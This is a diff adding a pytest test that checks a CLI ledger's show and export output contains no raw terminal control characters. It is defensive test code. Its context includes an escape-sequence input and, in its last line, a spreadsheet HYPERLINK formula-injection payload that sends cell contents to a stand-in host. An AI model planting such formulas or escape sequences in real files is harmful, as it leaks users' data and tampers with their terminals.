@@ -137,6 +137,18 @@ def test_ledger_list_never_prints_controls(tmp_path, capsys):
     assert "\\x1b[31mred" in printed
 
 
+@pytest.mark.parametrize("command", [["show", "RUN"], ["export"]])
+def test_ledger_show_and_export_are_the_same_json_with_no_raw_controls(tmp_path, capsys, command):
+    path = _ledger_with(tmp_path, EVIL)
+    run_id = Ledger(path, create=False).records()[0].run_id
+    args = [run_id if part == "RUN" else part for part in command]
+    assert main(["ledger", "--ledger", str(path), *args]) == 0
+    printed = capsys.readouterr().out
+    for ch in CONTROLS:
+        assert ch not in printed, repr(ch)
+    assert json.loads(printed)["report"]["model"]["name"] == EVIL  # the same JSON
+
+
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
 def test_csv_export_writes_no_live_formula(tmp_path, capsys, start):
     name = f'{start}HYPERLINK("http://x.test/?"&A1,"ok")'
